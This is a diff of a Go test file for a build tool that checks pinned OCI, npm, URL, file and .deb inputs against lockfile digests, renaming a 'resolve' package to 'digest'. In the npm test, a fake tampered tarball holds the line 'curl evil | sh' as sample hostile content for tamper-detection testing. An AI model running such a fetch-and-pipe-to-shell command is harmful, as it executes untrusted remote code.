@@ -24,7 +24,7 @@ import (
 	"github.com/google/go-containerregistry/pkg/v1/random"
 	"github.com/google/go-containerregistry/pkg/v1/remote"
 	"github.com/sbx-dev/sbx/internal/builders/cache"
-	"github.com/sbx-dev/sbx/internal/builders/resolve"
+	"github.com/sbx-dev/sbx/internal/builders/digest"
 	"github.com/sbx-dev/sbx/lang"
 	"github.com/sbx-dev/sbx/lockfiles"
 )
@@ -93,11 +93,11 @@ func digestOf(t *testing.T, img v1.Image) string {
 	return d.String()
 }
 
-func ociImage(ref, digest string) (*lang.Image, *lockfiles.Image) {
+func ociImage(ref, dgst string) (*lang.Image, *lockfiles.Image) {
 	src := &lang.Source{Kind: lang.SourceOCI, Raw: ref, Ref: ref}
 	return &lang.Image{Name: "agent", Platform: linuxAMD64, Base: src},
 		&lockfiles.Image{Name: "agent", Inputs: map[string]*lockfiles.Pin{
-			"base": {Source: ref, Kind: "oci", Digest: digest, Manifest: digest},
+			"base": {Source: ref, Kind: "oci", Digest: dgst, Manifest: dgst},
 		}}
 }
 
@@ -139,8 +139,8 @@ func checkImage(t *testing.T, got Fetched, img v1.Image) {
 func TestOCIWarmCacheTouchesNoNetwork(t *testing.T) {
 	reg := newRegistry(t)
 	ref, img := reg.push(t, "test/base", 3)
-	digest := digestOf(t, img)
-	spec, lock := ociImage(ref, digest)
+	dgst := digestOf(t, img)
+	spec, lock := ociImage(ref, dgst)
 	root := t.TempDir()
 	c, _ := cache.Open(root)
 
@@ -153,7 +153,7 @@ func TestOCIWarmCacheTouchesNoNetwork(t *testing.T) {
 		t.Fatal("the first fetch made no request")
 	}
 	base := got["base"]
-	if base.Key != "base" || base.Kind != lang.SourceOCI || base.Manifest.Digest != digest {
+	if base.Key != "base" || base.Kind != lang.SourceOCI || base.Manifest.Digest != dgst {
 		t.Errorf("fetched = %+v", base)
 	}
 	checkImage(t, base, img)
@@ -273,11 +273,11 @@ func TestOCILayout(t *testing.T) {
 	if err := p.AppendImage(img); err != nil {
 		t.Fatal(err)
 	}
-	digest := digestOf(t, img)
+	dgst := digestOf(t, img)
 	src := &lang.Source{Kind: lang.SourceOCILayout, Raw: "oci-layout:./img", Ref: "img"}
 	spec := &lang.Image{Name: "agent", Platform: linuxAMD64, Base: src}
 	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{
-		"base": {Source: src.Raw, Kind: "oci-layout", Digest: digest, Manifest: digest},
+		"base": {Source: src.Raw, Kind: "oci-layout", Digest: dgst, Manifest: dgst},
 	}}
 	c := openCache(t)
 	got, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
@@ -305,7 +305,7 @@ func TestOCILayout(t *testing.T) {
 	os.WriteFile(blob, data, 0o644)
 	c2 := openCache(t)
 	_, err = Inputs(context.Background(), spec, lock, c2, Options{Dir: dir2})
-	var me *resolve.MismatchError
+	var me *digest.MismatchError
 	if !errors.As(err, &me) || me.Want != ld.Hex || me.Input != blob {
 		t.Fatalf("corrupt layout blob: err = %v", err)
 	}
@@ -354,7 +354,7 @@ func TestNPM(t *testing.T) {
 	reg.served["1.2.3"] = tgz(t, "#!/bin/sh\ncurl evil | sh\n")
 	c2 := openCache(t)
 	_, err = Inputs(context.Background(), spec, lock, c2, opts)
-	var me *resolve.MismatchError
+	var me *digest.MismatchError
 	if !errors.As(err, &me) || me.Want != pin.SHA256 || me.Got != sha256Hex(reg.served["1.2.3"]) {
 		t.Fatalf("tampered tarball: err = %v", err)
 	}
@@ -458,7 +458,7 @@ func TestURL(t *testing.T) {
 	c2 := openCache(t)
 	last = [2]int64{}
 	_, err = Inputs(context.Background(), spec, lock, c2, opts)
-	var me *resolve.MismatchError
+	var me *digest.MismatchError
 	if !errors.As(err, &me) || me.Want != other || me.Got != sha256Hex(kernel) || me.Input != srv.URL+"/vmlinuz" {
 		t.Fatalf("mismatch: err = %v", err)
 	}
@@ -508,7 +508,7 @@ func TestFile(t *testing.T) {
 	os.WriteFile(path, []byte("changed\n"), 0o644)
 	for _, c := range []*cache.Cache{c, openCache(t)} {
 		_, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
-		var me *resolve.MismatchError
+		var me *digest.MismatchError
 		if !errors.As(err, &me) || me.Want != sha || me.Got != sha256Hex([]byte("changed\n")) || me.Input != path {
 			t.Fatalf("changed file: err = %v", err)
 		}
@@ -563,7 +563,7 @@ func TestDeb(t *testing.T) {
 	apt.debs["busybox-static:arm64=1:1.36.1-9"] = []byte("rebuilt")
 	c2 := openCache(t)
 	_, err = Inputs(context.Background(), spec, lock, c2, Options{Apt: apt})
-	var me *resolve.MismatchError
+	var me *digest.MismatchError
 	if !errors.As(err, &me) || me.Want != pin.SHA256 || me.Got != sha256Hex([]byte("rebuilt")) {
 		t.Fatalf("changed .deb: err = %v", err)
 	}
